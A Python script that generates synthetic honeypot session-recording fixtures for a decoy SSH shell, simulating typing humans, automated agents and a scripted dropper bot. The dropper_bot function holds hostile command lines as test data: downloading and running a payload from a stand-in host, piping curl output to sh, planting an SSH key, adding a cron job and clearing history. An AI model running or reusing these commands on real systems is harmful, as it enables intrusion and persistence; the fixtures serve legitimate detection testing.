#!/usr/bin/env python3
"""Generate the small day shards bundled in ``fixtures/``.

The shards are synthetic and fully deterministic (a fixed seed per shard, no
clock, no environment): running this script twice writes identical bytes. They
follow DECNET's session recorder format:

* one JSON object per line, each tagged with the session's ``"sid"`` (UUIDv4);
* a header line per session, ``{"sid", "hdr": {version, width, height,
  timestamp, env}}``;
* event lines ``{"sid", "t", "ch", "d"}`` with ``t`` in seconds since the
  session started, six decimals, ``ch`` one of ``i`` (input), ``o`` (output)
  or ``r`` (resize, ``d`` = ``"COLSxROWS"``);
* a ``{"sid", "trunc": true}`` line when a recording was cut short;
* inside ``d`` only ``"``, ``\\``, bytes below 0x20 and 0x7f are escaped;
  bytes from 0x80 up are written raw (so a line need not be valid UTF-8), and
  a payload longer than 975 bytes is split into several events.

Sessions of one day are interleaved by wall-clock time, as concurrent sessions
are in a real shard.

Usage::

    python tools/make_fixtures.py [--out DIR]
"""

from __future__ import annotations

import argparse
import random
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

CHUNK_BYTES = 975
PROMPT = "root@decoy:~# "

_SHORT_ESCAPES = {0x08: b"\\b", 0x09: b"\\t", 0x0A: b"\\n", 0x0C: b"\\f", 0x0D: b"\\r"}

_OUTPUTS: dict[str, str] = {
    "id": "uid=0(root) gid=0(root) groups=0(root)",
    "whoami": "root",
    "uname -a": "Linux decoy 5.15.0-91-generic #101-Ubuntu SMP x86_64 GNU/Linux",
    "pwd": "/root",
    "w": (
        " 10:14:02 up 41 days,  3:07,  1 user,  load average: 0.08, 0.03, 0.01\n"
        "USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n"
        "root     pts/0    203.0.113.50     10:13    1.00s  0.02s  0.00s w"
    ),
    "ls -la": (
        "total 28\n"
        "drwx------  4 root root 4096 Apr 30 09:12 .\n"
        "drwxr-xr-x 19 root root 4096 Mar  2 11:40 ..\n"
        "-rw-------  1 root root  512 Apr 30 09:12 .bash_history\n"
        "-rw-r--r--  1 root root 3106 Oct 15  2021 .bashrc\n"
        "drwx------  2 root root 4096 Mar  2 11:52 .ssh"
    ),
    "cat /etc/passwd": (
        "root:x:0:0:root:/root:/bin/bash\n"
        "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
        "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
        "ubuntu:x:1000:1000:Ubuntu:/home/ubuntu:/bin/bash"
    ),
    "nproc": "2",
    "free -m": (
        "               total        used        free      shared  buff/cache   available\n"
        "Mem:            1987         412         903           1         671        1402\n"
        "Swap:              0           0           0"
    ),
    "ps aux | grep -v grep | grep -i miner": "",
    "cat /proc/cpuinfo | grep name | head -n 1": "model name\t: Intel(R) Xeon(R) CPU E5-2676",
    "df -h": (
        "Filesystem      Size  Used Avail Use% Mounted on\n"
        "/dev/xvda1       39G  9.9G   29G  26% /\n"
        "tmpfs           994M     0  994M   0% /dev/shm"
    ),
    "netstat -tlnp": (
        "Active Internet connections (only servers)\n"
        "Proto Recv-Q Send-Q Local Address   Foreign Address State  PID/Program name\n"
        "tcp        0      0 0.0.0.0:22      0.0.0.0:*       LISTEN 611/sshd"
    ),
    "history -c": "",
    "exit": "logout",
}


def _output_for(command: str) -> str:
    """What the decoy prints for a command (``bash: ...: command not found`` if unknown)."""
    if command in _OUTPUTS:
        return _OUTPUTS[command]
    if not command.strip():
        return ""
    word = command.split()[0]
    if word in ("cd", "export", "unset", "chmod", "rm", "mkdir", "echo", "crontab"):
        return command.partition(" ")[2] if word == "echo" else ""
    if word in ("wget", "curl"):
        return "Connecting to 198.51.100.23:80... failed: Connection refused."
    return f"-bash: {word}: command not found"


def _crlf(text: str) -> str:
    return text.replace("\n", "\r\n")


def _escape(chunk: bytes) -> bytes:
    """The recorder's escaping: quote, backslash, control bytes and DEL; nothing else."""
    out = bytearray()
    for byte in chunk:
        if byte in (0x22, 0x5C):
            out += b"\\" + bytes([byte])
        elif byte in _SHORT_ESCAPES:
            out += _SHORT_ESCAPES[byte]
        elif byte < 0x20 or byte == 0x7F:
            out += b"\\u%04x" % byte
        else:
            out.append(byte)
    return bytes(out)


@dataclass
class Session:
    """One recorded session: wall-clock start, terminal, events as (t, ch, raw bytes)."""

    sid: str
    start: int
    width: int = 80
    height: int = 24
    term: str = "xterm"
    events: list[tuple[float, str, bytes]] = field(default_factory=list)
    truncated: bool = False
    clock: float = 0.0

    def emit(self, ch: str, data: str | bytes, delay: float = 0.0) -> None:
        """Record ``data`` on channel ``ch`` after ``delay`` seconds."""
        self.clock += delay
        raw = data.encode("utf-8") if isinstance(data, str) else data
        if ch in ("i", "o") and not raw:
            return
        self.events.append((round(self.clock, 6), ch, raw))

    def header_line(self) -> bytes:
        return (
            b'{"sid":"%s","hdr":{"version":2,"width":%d,"height":%d,"timestamp":%d,'
            b'"env":{"SHELL":"/bin/bash","TERM":"%s"}}}\n'
            % (self.sid.encode(), self.width, self.height, self.start, self.term.encode())
        )

    def event_lines(self) -> list[tuple[float, bytes]]:
        """(absolute time, line) for every event, payloads split at CHUNK_BYTES."""
        lines: list[tuple[float, bytes]] = []
        for t, ch, raw in self.events:
            chunks = [raw[i : i + CHUNK_BYTES] for i in range(0, len(raw), CHUNK_BYTES)] or [b""]
            for chunk in chunks:
                line = b'{"sid":"%s","t":%.6f,"ch":"%s","d":"%s"}\n' % (
                    self.sid.encode(),
                    t,
                    ch.encode(),
                    _escape(chunk),
                )
                lines.append((self.start + t, line))
        if self.truncated:
            last = self.events[-1][0] if self.events else 0.0
            lines.append((self.start + last, b'{"sid":"%s","trunc":true}\n' % self.sid.encode()))
        return lines


def _sid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _login(session: Session, rng: random.Random) -> None:
    banner = (
        "Welcome to Ubuntu 22.04.3 LTS (GNU/Linux 5.15.0-91-generic x86_64)\n\n"
        " * Documentation:  https://help.ubuntu.com\n\n"
        "Last login: Thu May  1 22:41:07 2026 from 198.51.100.77\n"
    )
    session.emit("o", _crlf(banner), rng.uniform(0.05, 0.2))
    session.emit("o", PROMPT, rng.uniform(0.01, 0.04))


def _respond(session: Session, rng: random.Random, command: str) -> None:
    """The shell's reaction to a submitted line: newline, output, next prompt."""
    session.emit("o", "\r\n", rng.uniform(0.0002, 0.0008))
    out = _output_for(command)
    if out:
        session.emit("o", _crlf(out) + "\r\n", rng.uniform(0.005, 0.12))
    session.emit("o", PROMPT, rng.uniform(0.001, 0.01))


def _type_line(
    session: Session,
    rng: random.Random,
    command: str,
    *,
    mean_iat: float,
    typo_rate: float,
    keys: list[str | bytes] | None = None,
) -> None:
    """Type ``command`` one key at a time, with echo, occasional typos fixed by DEL."""
    for key in keys if keys is not None else list(command):
        if isinstance(key, str) and key.isalpha() and rng.random() < typo_rate:
            wrong = rng.choice("asdfghjkl")
            session.emit("i", wrong, max(0.03, rng.gauss(mean_iat, mean_iat / 3)))
            session.emit("o", wrong, 0.0004)
            session.emit("i", "\x7f", max(0.08, rng.gauss(mean_iat * 2, mean_iat / 2)))
            session.emit("o", "\b \b", 0.0004)
        session.emit("i", key, max(0.03, rng.gauss(mean_iat, mean_iat / 3)))
        session.emit("o", key, 0.0004)
    session.emit("i", "\r", max(0.05, rng.gauss(mean_iat * 1.5, mean_iat / 2)))
    _respond(session, rng, command)


def _paste_line(
    session: Session, rng: random.Random, command: str, gap: tuple[float, float]
) -> None:
    """Send a whole line at once, the way an agent or a paste does."""
    session.emit("i", command + "\r", rng.uniform(*gap))
    session.emit("o", command, 0.0005)
    _respond(session, rng, command)


def typing_human(rng: random.Random, start: int) -> Session:
    """A person typing recon commands, thinking between them, fixing typos."""
    session = Session(_sid(rng), start)
    _login(session, rng)
    for command in ("w", "id", "uname -a", "ls -la", "cat /etc/passwd", "df -h", "netstat -tlnp"):
        session.clock += rng.lognormvariate(1.0, 0.5)
        _type_line(session, rng, command, mean_iat=0.14, typo_rate=0.06)
    session.clock += 2.0
    _type_line(session, rng, "exit", mean_iat=0.12, typo_rate=0.0)
    return session


def tab_completing_human(rng: random.Random, start: int) -> Session:
    """A faster typist using tab completion, Ctrl-C and a resize, on a 256-colour terminal."""
    session = Session(_sid(rng), start, width=120, height=40, term="xterm-256color")
    _login(session, rng)
    session.clock += 1.2
    keys: list[str | bytes] = [*"cat /etc/pas", "\t"]
    for key in keys:
        session.emit("i", key, max(0.03, rng.gauss(0.09, 0.03)))
        session.emit("o", "swd" if key == "\t" else key, 0.0004)
    session.emit("i", "\r", 0.15)
    _respond(session, rng, "cat /etc/passwd")
    session.emit("r", "160x48", 1.4)
    for command in ("free -m", "nproc", "ps aux | grep -v grep | grep -i miner"):
        session.clock += rng.uniform(1.0, 3.0)
        _type_line(session, rng, command, mean_iat=0.09, typo_rate=0.03)
    session.clock += 1.0
    for key in "top":
        session.emit("i", key, rng.uniform(0.06, 0.12))
        session.emit("o", key, 0.0004)
    session.emit("i", "\x03", 0.4)
    session.emit("o", "^C\r\n" + PROMPT, 0.001)
    session.clock += 2.5
    _type_line(session, rng, "history -c", mean_iat=0.09, typo_rate=0.0)
    _type_line(session, rng, "exit", mean_iat=0.08, typo_rate=0.0)
    return session


def pasting_agent(rng: random.Random, start: int) -> Session:
    """An automated operator sending whole lines, reading output between them."""
    session = Session(_sid(rng), start)
    _login(session, rng)
    commands = (
        "uname -a",
        "id",
        "cat /proc/cpuinfo | grep name | head -n 1",
        "free -m",
        "nproc",
        "ls -la",
        "cat /etc/passwd",
        "netstat -tlnp",
        "df -h",
        "whoami",
    )
    for command in commands:
        _paste_line(session, rng, command, (0.6, 1.8))
    _paste_line(session, rng, "exit", (0.5, 1.0))
    return session


def dropper_bot(rng: random.Random, start: int) -> Session:
    """A scripted dropper firing chained commands without waiting for output."""
    session = Session(_sid(rng), start)
    session.emit("o", PROMPT, 0.08)
    commands = (
        "cd /tmp || cd /var/run || cd /dev/shm",
        "wget http://198.51.100.23/bins/x86 -O .x; chmod +x .x; ./.x ssh.bot",
        "curl -s http://198.51.100.23/bins/sh | sh",
        "rm -rf .x; history -c",
        "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ== bot' >> ~/.ssh/authorized_keys",
        "crontab -l | { cat; echo '*/5 * * * * /tmp/.x'; } | crontab -",
    )
    for command in commands:
        _paste_line(session, rng, command, (0.01, 0.05))
    session.emit("i", "exit\r", 0.02)
    session.emit("o", "exit\r\nlogout\r\n", 0.0005)
    return session


def output_only(rng: random.Random, start: int) -> Session:
    """An exec-channel session: the recorder sees output and no keystrokes."""
    session = Session(_sid(rng), start)
    for command in ("uname -a", "id", "nproc", "free -m", "df -h", "w", "netstat -tlnp"):
        session.emit("o", _crlf(_output_for(command)) + "\r\n", rng.uniform(0.05, 0.4))
    session.emit("o", PROMPT, 0.01)
    session.emit("o", PROMPT, 0.8)
    return session


def latin1_human(rng: random.Random, start: int) -> Session:
    """A person on a Latin-1 terminal: raw 8-bit keystrokes; the recording is truncated."""
    session = Session(_sid(rng), start, term="linux")
    _login(session, rng)
    session.clock += 1.5
    keys: list[str | bytes] = [*"echo caf", b"\xe9", *" d", b"\xe9", *"j", b"\xe0", *" vu"]
    _type_line(session, rng, "echo caf\xe9 d\xe9j\xe0 vu", mean_iat=0.2, typo_rate=0.0, keys=keys)
    for command in ("id", "whoami", "pwd", "ls -la"):
        session.clock += rng.uniform(1.0, 4.0)
        _type_line(session, rng, command, mean_iat=0.2, typo_rate=0.05)
    session.truncated = True
    return session


def closed_loop_agent(rng: random.Random, start: int) -> Session:
    """An agent whose pause before each line grows with the output it just read."""
    session = Session(_sid(rng), start)
    _login(session, rng)
    previous = 0
    for command in ("id", "uname -a", "ls -la", "cat /etc/passwd", "w", "free -m", "df -h"):
        _paste_line(session, rng, command, (0.4 + previous / 400, 0.6 + previous / 300))
        previous = len(_output_for(command))
    return session


def big_output_human(rng: random.Random, start: int) -> Session:
    """A person dumping a large file: one output payload spans several 975-byte events."""
    session = Session(_sid(rng), start)
    _login(session, rng)
    session.clock += 2.0
    _type_line(session, rng, "id", mean_iat=0.16, typo_rate=0.0)
    session.clock += 1.5
    for key in "cat /var/log/auth.log":
        session.emit("i", key, max(0.04, rng.gauss(0.15, 0.05)))
        session.emit("o", key, 0.0004)
    session.emit("i", "\r", 0.2)
    session.emit("o", "\r\n", 0.0004)
    log_lines = [
        f"May  2 0{h % 10}:{m:02d}:{(m * 7) % 60:02d} decoy sshd[{1000 + m}]: "
        f"Failed password for {'root' if m % 3 else 'admin'} from 203.0.113.{m} port "
        f"{40000 + m * 13} ssh2"
        for h, m in enumerate(range(1, 61))
    ]
    session.emit("o", _crlf("\n".join(log_lines)) + "\r\n" + PROMPT, 0.05)
    session.clock += 3.0
    _type_line(session, rng, "w\u00e9", mean_iat=0.18, typo_rate=0.0)
    _type_line(session, rng, "exit", mean_iat=0.15, typo_rate=0.0)
    return session


SessionMaker = Callable[[random.Random, int], Session]

SHARDS: dict[str, tuple[int, int, list[tuple[int, SessionMaker]]]] = {
    # name: (seed, midnight epoch of that day, [(seconds after midnight, session maker)])
    "sessions-2026-05-02.jsonl": (
        20260502,
        1777680000,
        [
            (36_000, typing_human),
            (36_020, pasting_agent),
            (36_031, dropper_bot),
            (36_050, output_only),
            (36_065, tab_completing_human),
            (37_200, latin1_human),
        ],
    ),
    "sessions-2026-05-03.jsonl": (
        20260503,
        1777766400,
        [
            (3_600, closed_loop_agent),
            (3_605, big_output_human),
            (3_620, dropper_bot),
        ],
    ),
}


def render(seed: int, midnight: int, plan: list[tuple[int, SessionMaker]]) -> bytes:
    """One shard's bytes: headers first-come, then all events merged by wall-clock time."""
    rng = random.Random(seed)
    timeline: list[tuple[float, int, int, bytes]] = []
    for index, (offset, maker) in enumerate(plan):
        session = maker(rng, midnight + offset)
        timeline.append((float(session.start), index, -1, session.header_line()))
        for order, (at, line) in enumerate(session.event_lines()):
            timeline.append((at, index, order, line))
    timeline.sort(key=lambda item: (item[0], item[1], item[2]))
    return b"".join(line for *_, line in timeline)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    default_out = Path(__file__).resolve().parents[1] / "fixtures"
    parser.add_argument("--out", type=Path, default=default_out, help="output directory")
    args = parser.parse_args()

    args.out.mkdir(parents=True, exist_ok=True)
    for name, (seed, midnight, plan) in SHARDS.items():
        data = render(seed, midnight, plan)
        (args.out / name).write_bytes(data)
        print(f"{args.out / name}: {len(data)} bytes")


if __name__ == "__main__":
    main()
